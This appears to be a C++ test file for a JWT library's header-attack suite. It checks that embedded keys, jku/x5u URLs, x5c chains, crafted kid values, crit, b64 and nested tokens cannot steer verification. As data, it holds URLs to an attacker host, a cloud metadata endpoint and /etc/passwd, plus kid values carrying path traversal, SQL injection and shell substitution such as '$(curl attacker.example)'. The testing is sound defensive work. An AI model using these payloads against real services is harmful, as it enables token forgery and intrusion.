// Header members that try to steer verification: ATK-EMBEDDED-JWK, ATK-JKU-X5U, ATK-X5C,
// ATK-KID, ATK-CRIT, ATK-B64 and ATK-NESTED. jot never reads jwk, jku, x5u, x5c or x5t (RFC 8725
// §3.10): keys come only from the application. Decision, documented in docs/security.md: a
// token that carries those members but is signed by a configured key is accepted, because the
// members are ignored, not trusted.

#include <string>
#include <tuple>
#include <vector>

#include "attack_support.hpp"
#include "verifier_setup.hpp"

using jot::algorithm;
using jot::errc;
using namespace jot_attack;

namespace {

// ---------------------------------------------------------------------------------------------
// ATK-EMBEDDED-JWK (CVE-2018-0114, CVE-2026-27962, CVE-2026-34240): the attacker signs with its
// own key and ships that key in the header.
std::vector<attack_case> embedded_jwk_table() {
  std::vector<attack_case> cases;
  const std::string p = payload();
  const struct {
    const char* name;
    algorithm alg;
    const char* victim;
    const char* attacker;
  } families[] = {{"RS256", algorithm::rs256, "rsa", "rsa-attacker"},
                  {"ES256", algorithm::es256, "p256", "p256-attacker"},
                  {"EdDSA", algorithm::ed25519, "ed25519", "ed25519-attacker"}};
  for (const auto& f : families) {
    EVP_PKEY* victim = test_key(f.victim);
    EVP_PKEY* attacker = test_key(f.attacker);
    const auto verifier = verifier_for(public_key(f.alg, victim));
    const std::string alg(jot::algorithm_name(f.alg));
    const auto header = [&](const json& jwk) { return json{{"alg", alg}, {"jwk", jwk}}.dump(); };
    cases.push_back(verify_case(
        f.name + std::string(": signed by the attacker, carrying the attacker's JWK"), verifier,
        signed_token(attacker, f.alg, header(public_jwk(attacker)), p), errc::invalid_signature));
    cases.push_back(verify_case(
        f.name + std::string(": signed by the attacker, carrying the victim's JWK"), verifier,
        signed_token(attacker, f.alg, header(public_jwk(victim)), p), errc::invalid_signature));
    cases.push_back(verify_case(
        f.name + std::string(": decision: signed by the victim, carrying the attacker's JWK"),
        verifier, signed_token(victim, f.alg, header(public_jwk(attacker)), p), accepted));
  }
  // A symmetric jwk: the attacker's own HMAC secret (node-jose, cisco/node-jose#112).
  const auto hs = verifier_for(secret_key(algorithm::hs256));
  const json oct = {{"kty", "oct"}, {"k", b64(attacker_secret)}};
  cases.push_back(
      verify_case("HS256: MACed with the attacker's oct key, carried in jwk", hs,
                  hmac_token(json{{"alg", "HS256"}, {"jwk", oct}}.dump(), p, attacker_secret),
                  errc::invalid_signature, {attacker_secret, b64(attacker_secret)}));
  cases.push_back(verify_case("HS256: decision: jwk that is not even an object is ignored", hs,
                              hmac_token(R"({"alg":"HS256","jwk":"not a key"})", p), accepted));
  return cases;
}
JOT_ATTACK_TABLE("ATK-EMBEDDED-JWK", embedded_jwk_table,
                 "a key embedded in the header is never used to verify the token")

// ---------------------------------------------------------------------------------------------
// ATK-JKU-X5U: URLs in the header (RFC 7515 §4.1.2, §4.1.5) are never fetched; jot has no HTTP
// client, and jwks_cache's fetch function takes no URL (api_attacks_test.cpp checks that no
// header makes it fetch). With the victim's key set in kid mode an attacker's kid is unknown.
std::vector<attack_case> remote_key_url_table() {
  std::vector<attack_case> cases;
  const std::string p = payload();
  EVP_PKEY* victim = test_key("rsa");
  EVP_PKEY* attacker = test_key("rsa-attacker");
  const auto single = verifier_for(public_key(algorithm::rs256, victim));
  jot_test::verifier_setup with_kids = policy();
  with_kids.add_key(public_key(algorithm::rs256, victim, "rsa-1"))
      .add_key(secret_key(algorithm::hs256, victim_secret, "hmac-1"));
  const auto keyed = build(with_kids);
  const struct {
    const char* member;
    const char* url;
  } urls[] = {{"jku", "https://attacker.example/jwks.json"},
              {"x5u", "https://attacker.example/cert.pem"},
              {"jku", "http://169.254.169.254/latest/meta-data/"},
              {"jku", "file:///etc/passwd"},
              {"x5u", "file:///proc/self/environ"}};
  for (const auto& u : urls) {
    const std::string header = json{{"alg", "RS256"}, {u.member, u.url}}.dump();
    const std::string named =
        json{{"alg", "RS256"}, {"kid", "attacker-key"}, {u.member, u.url}}.dump();
    const std::string label = std::string(u.member) + " " + u.url;
    cases.push_back(verify_case("signed by the attacker, " + label, single,
                                signed_token(attacker, algorithm::rs256, header, p),
                                errc::invalid_signature));
    cases.push_back(verify_case("signed by the attacker, kid attacker-key, " + label, keyed,
                                signed_token(attacker, algorithm::rs256, named, p),
                                errc::unknown_key_id));
    cases.push_back(verify_case("decision: signed by the victim, " + label, single,
                                signed_token(victim, algorithm::rs256, header, p), accepted));
  }
  return cases;
}
JOT_ATTACK_TABLE("ATK-JKU-X5U", remote_key_url_table,
                 "jku and x5u URLs in the header are ignored, never fetched")

// ---------------------------------------------------------------------------------------------
// ATK-X5C: an unvalidated certificate chain (RFC 7515 §4.1.6). jot validates no chain and
// trusts none: x5c, x5t and x5t#S256 are ignored.
std::vector<attack_case> x5c_table() {
  std::vector<attack_case> cases;
  const std::string p = payload();
  EVP_PKEY* victim = test_key("rsa");
  EVP_PKEY* attacker = test_key("rsa-attacker");
  const auto verifier = verifier_for(public_key(algorithm::rs256, victim));
  // x5c holds standard base64 DER certificates (RFC 7515 §4.1.6).
  const std::string forged = standard_base64(certificate(attacker, false, "issuer.example"));
  const std::string genuine = standard_base64(certificate(victim, false, "issuer.example"));
  unsigned char thumb[32];
  const std::string victim_der = certificate(victim, false);
  REQUIRE(EVP_Digest(victim_der.data(), victim_der.size(), thumb, nullptr, EVP_sha256(), nullptr) ==
          1);
  const std::string x5t = b64(std::string(reinterpret_cast<char*>(thumb), 32));
  cases.push_back(verify_case(
      "signed by the attacker, x5c: the attacker's self-signed certificate for issuer.example",
      verifier,
      signed_token(attacker, algorithm::rs256, json{{"alg", "RS256"}, {"x5c", {forged}}}.dump(), p),
      errc::invalid_signature));
  cases.push_back(verify_case("signed by the attacker, x5c: the victim's own certificate", verifier,
                              signed_token(attacker, algorithm::rs256,
                                           json{{"alg", "RS256"}, {"x5c", {genuine}}}.dump(), p),
                              errc::invalid_signature));
  cases.push_back(verify_case(
      "signed by the attacker, x5t#S256 of the victim's certificate", verifier,
      signed_token(attacker, algorithm::rs256, json{{"alg", "RS256"}, {"x5t#S256", x5t}}.dump(), p),
      errc::invalid_signature));
  cases.push_back(verify_case(
      "decision: signed by the victim, x5c: the attacker's certificate", verifier,
      signed_token(victim, algorithm::rs256, json{{"alg", "RS256"}, {"x5c", {forged}}}.dump(), p),
      accepted));
  return cases;
}
JOT_ATTACK_TABLE("ATK-X5C", x5c_table,
                 "an x5c certificate chain in the header is never trusted or validated")

// ---------------------------------------------------------------------------------------------
// ATK-KID: kid is an opaque, byte-exact lookup key into the application's key set (RFC 7515
// §4.1.4, RFC 8725 §3.10); never a path, a query or a command. Each token is MACed with the key
// the injection would have produced on a vulnerable server.
std::vector<attack_case> kid_table() {
  std::vector<attack_case> cases;
  const std::string p = payload();
  jot_test::verifier_setup two = policy();
  two.add_key(secret_key(algorithm::hs256, victim_secret, "hmac-1"))
      .add_key(secret_key(algorithm::hs256, attacker_secret.substr(0, 32) + "victim-second-key!",
                          "hmac-2"));
  const auto keyed = build(two);
  jot_test::verifier_setup big = policy();
  big.add_key(secret_key(algorithm::hs256, victim_secret, "hmac-1"))
      .add_key(secret_key(algorithm::hs512, victim_secret, "hmac-3"))
      .allow_token_size(64 * 1024);
  const auto keyed_large = build(big);
  const std::string sql_secret = "attacker-secret-from-sql";
  const struct {
    const char* name;
    std::string kid;
    std::string mac_key;
  } kids[] = {
      {"path traversal to /dev/null (empty-key MAC)", "../../../../../../dev/null", ""},
      {"path traversal to a known file", "../../../../proc/sys/kernel/randomize_va_space", "2\n"},
      {"SQL injection", "x' UNION SELECT 'attacker-secret-from-sql'-- ", sql_secret},
      {"shell command", "hmac-1|id", victim_secret},
      {"shell substitution", "$(curl attacker.example)", victim_secret},
      {"a URL", "https://attacker.example/key", victim_secret},
      // A C-string lookup would stop at the NUL and find hmac-1, whose MAC this is.
      {"the right kid, a NUL, then more", std::string("hmac-1\0../../x", 14), victim_secret},
      {"the right kid and a trailing space", "hmac-1 ", victim_secret},
      {"the right kid in upper case", "HMAC-1", victim_secret},
      {"empty", "", victim_secret},
      {"a wildcard", "*", victim_secret},
  };
  cases.push_back(verify_case("control: kid hmac-1", keyed,
                              hmac_token(R"({"alg":"HS256","kid":"hmac-1"})", p), accepted));
  for (const auto& k : kids) {
    cases.push_back(
        verify_case(std::string("kid: ") + k.name, keyed,
                    hmac_token(json{{"alg", "HS256"}, {"kid", k.kid}}.dump(), p, k.mac_key),
                    errc::unknown_key_id, {k.mac_key}));
  }
  const std::string long_kid(10 * 1024, 'k');
  cases.push_back(verify_case("kid: 10 KiB long (size cap raised to 64 KiB)", keyed_large,
                              hmac_token(json{{"alg", "HS256"}, {"kid", long_kid}}.dump(), p),
                              errc::unknown_key_id));
  cases.push_back(verify_case("kid: 10 KiB long, default 8 KiB cap", keyed,
                              hmac_token(json{{"alg", "HS256"}, {"kid", long_kid}}.dump(), p),
                              errc::token_too_large));
  for (const char* value : {"7", "null", "true", R"({"id":"hmac-1"})", R"(["hmac-1"])"}) {
    cases.push_back(
        verify_case(std::string("kid of JSON type ") + value, keyed,
                    hmac_token(std::string(R"({"alg":"HS256","kid":)") + value + "}", p),
                    errc::invalid_header));
  }
  // A verifier with one key and no kid accepts any kid (it names no other key); the kid still
  // selects nothing, so the attacker's MAC meets the one configured secret.
  const auto single = verifier_for(secret_key(algorithm::hs256));
  cases.push_back(verify_case("single unnamed key: path-traversal kid, empty-key MAC", single,
                              hmac_token(R"({"alg":"HS256","kid":"../../../../dev/null"})", p, ""),
                              errc::invalid_signature));
  cases.push_back(verify_case("decision: single unnamed key: any kid, genuine MAC", single,
                              hmac_token(R"({"alg":"HS256","kid":"../../../../dev/null"})", p),
                              accepted));
  return cases;
}
JOT_ATTACK_TABLE("ATK-KID", kid_table,
                 "a kid is an exact lookup key: traversal, injection and look-alike kids find "
                 "nothing")

// ---------------------------------------------------------------------------------------------
// ATK-CRIT (RFC 7515 §4.1.11; PyJWT CVE-2026-32597, Authlib CVE-2025-59420): an extension the
// application has not declared is unsupported; a crit that is not a non-empty array of distinct,
// unregistered names present in the header is malformed.
std::vector<attack_case> crit_table() {
  std::vector<attack_case> cases;
  const std::string p = payload();
  const auto strict = verifier_for(secret_key(algorithm::hs256));
  jot_test::verifier_setup declaring = policy();
  declaring.add_key(secret_key(algorithm::hs256)).allow_critical_header("exp-bound");
  declaring.allow_critical_header("b64");  // declaring b64 does not make jot implement RFC 7797
  const auto understands = build(declaring);
  const struct {
    const char* name;
    std::string header;
    std::optional<errc> strict;
    std::optional<errc> understanding;
  } rows[] = {
      {"an unknown extension", R"({"alg":"HS256","crit":["exp-bound"],"exp-bound":1})",
       errc::unsupported_critical_header, accepted},
      {"an empty list", R"({"alg":"HS256","crit":[]})", errc::invalid_header, errc::invalid_header},
      {"a string, not a list", R"({"alg":"HS256","crit":"exp-bound","exp-bound":1})",
       errc::invalid_header, errc::invalid_header},
      {"an object", R"({"alg":"HS256","crit":{"exp-bound":1}})", errc::invalid_header,
       errc::invalid_header},
      {"a non-string name", R"({"alg":"HS256","crit":[1]})", errc::invalid_header,
       errc::invalid_header},
      {"a registered name (alg)", R"({"alg":"HS256","crit":["alg"]})", errc::invalid_header,
       errc::invalid_header},
      {"a registered name (kid)", R"({"alg":"HS256","kid":"a","crit":["kid"]})",
       errc::invalid_header, errc::invalid_header},
      {"a duplicate name", R"({"alg":"HS256","crit":["exp-bound","exp-bound"],"exp-bound":1})",
       errc::invalid_header, errc::invalid_header},
      {"a name absent from the header", R"({"alg":"HS256","crit":["exp-bound"]})",
       errc::unsupported_critical_header, errc::invalid_header},
      {"b64 with b64 true", R"({"alg":"HS256","b64":true,"crit":["b64"]})",
       errc::unsupported_critical_header, errc::unsupported_critical_header},
      {"null", R"({"alg":"HS256","crit":null})", errc::invalid_header, errc::invalid_header},
      {"no crit (control)", R"({"alg":"HS256"})", accepted, accepted},
  };
  for (const auto& row : rows) {
    const std::string token = hmac_token(row.header, p);
    cases.push_back(verify_case(std::string("crit: ") + row.name + ", nothing declared", strict,
                                token, row.strict));
    cases.push_back(verify_case(std::string("crit: ") + row.name + ", exp-bound and b64 declared",
                                understands, token, row.understanding));
  }
  return cases;
}
JOT_ATTACK_TABLE("ATK-CRIT", crit_table,
                 "crit extensions are honoured: unknown ones are unsupported, malformed ones "
                 "invalid")

// ---------------------------------------------------------------------------------------------
// ATK-B64 (RFC 7797): jot does not implement unencoded payloads. The payloads below are still
// base64url, so the header rule itself (not the decoder) is what refuses them; the raw-payload
// forms are in the encoding tables (they fail as base64url first).
std::vector<attack_case> b64_table() {
  std::vector<attack_case> cases;
  const std::string p = payload();
  const auto strict = verifier_for(secret_key(algorithm::hs256));
  jot_test::verifier_setup declaring = policy();
  declaring.add_key(secret_key(algorithm::hs256)).allow_critical_header("b64");
  const auto declared = build(declaring);
  const struct {
    const char* name;
    std::string header;
    std::optional<errc> expected;
  } rows[] = {
      {"b64 false listed in crit", R"({"alg":"HS256","b64":false,"crit":["b64"]})",
       errc::unsupported_critical_header},
      {"b64 false without crit (RFC 7797 §6 forbids)", R"({"alg":"HS256","b64":false})",
       errc::invalid_header},
      {"b64 as the string \"false\"", R"({"alg":"HS256","b64":"false"})", errc::invalid_header},
      {"b64 as 0", R"({"alg":"HS256","b64":0})", errc::invalid_header},
      {"b64 true without crit changes nothing (control)", R"({"alg":"HS256","b64":true})",
       accepted},
  };
  for (const auto& row : rows) {
    cases.push_back(verify_case(row.name, strict, hmac_token(row.header, p), row.expected));
  }
  cases.push_back(verify_case("b64 false listed in crit, the application declaring b64", declared,
                              hmac_token(R"({"alg":"HS256","b64":false,"crit":["b64"]})", p),
                              errc::unsupported_critical_header));
  // RFC 7797 §5.2 signing input: the raw payload after the dot. It is no base64url, so it is
  // refused while decoding, before the header is read; with dots in the claims (a URL) it is not
  // even three segments (here five: the shape of a JWE, encrypted_token).
  const std::string header = b64(R"({"alg":"HS256","b64":false,"crit":["b64"]})");
  for (const auto& [name, raw, expected] :
       {std::tuple<const char*, std::string, errc>{"b64 false with raw claims as payload",
                                                   R"({"sub":"admin","exp":1750003600})",
                                                   errc::invalid_base64},
        std::tuple<const char*, std::string, errc>{
            "b64 false with raw claims holding a dot as payload", p, errc::encrypted_token}}) {
    const std::string raw_input = header + "." + raw;
    cases.push_back(verify_case(
        name, strict, raw_input + "." + b64(hmac("SHA256", victim_secret, raw_input)), expected));
  }
  return cases;
}
JOT_ATTACK_TABLE("ATK-B64", b64_table, "unencoded payloads (b64 false) are never processed")

// ---------------------------------------------------------------------------------------------
// ATK-NESTED (RFC 7519 §5.2, §7.2 step 8; RFC 8725 §2.8): a nested JWT is never verified
// implicitly, and zip (RFC 7516 §4.1.3, JWE only) is never inflated.
std::vector<attack_case> nested_table() {
  std::vector<attack_case> cases;
  const auto verifier = verifier_for(secret_key(algorithm::hs256));
  // An unsigned inner JWT with admin claims, as a payload.
  const std::string inner = sign_raw(R"({"alg":"none"})", payload(), no_signature{});
  for (const char* cty : {"JWT", "jwt", "application/jwt", "Application/JWT"}) {
    cases.push_back(verify_case(std::string("cty ") + cty + ", an unsigned inner token", verifier,
                                hmac_token(json{{"alg", "HS256"}, {"cty", cty}}.dump(), inner),
                                errc::nested_token));
  }
  cases.push_back(verify_case(
      "cty JWT on an unsigned outer token (refused as nested first)", verifier,
      sign_raw(R"({"alg":"none","cty":"JWT"})", inner, no_signature{}), errc::nested_token));
  // Only the spelling is a courtesy: the payload is parsed as claims, so a token inside it is
  // never taken for one, whatever cty says.
  cases.push_back(verify_case("cty \"JWT \" (not the media type), the payload is a token", verifier,
                              hmac_token(R"({"alg":"HS256","cty":"JWT "})", inner),
                              errc::invalid_json));
  cases.push_back(verify_case("no cty, the payload is a token", verifier,
                              hmac_token(R"({"alg":"HS256"})", inner), errc::invalid_json));
  cases.push_back(verify_case("cty not a string", verifier,
                              hmac_token(R"({"alg":"HS256","cty":["JWT"]})", payload()),
                              errc::invalid_header));
  cases.push_back(verify_case("control: another cty is ignored", verifier,
                              hmac_token(R"({"alg":"HS256","cty":"json"})", payload()), accepted));
  cases.push_back(verify_case("zip DEF in a JWS header", verifier,
                              hmac_token(R"({"alg":"HS256","zip":"DEF"})", payload()),
                              errc::invalid_header));
  return cases;
}
JOT_ATTACK_TABLE("ATK-NESTED", nested_table,
                 "nested tokens (cty JWT) and zip are refused, never processed")

}  // namespace
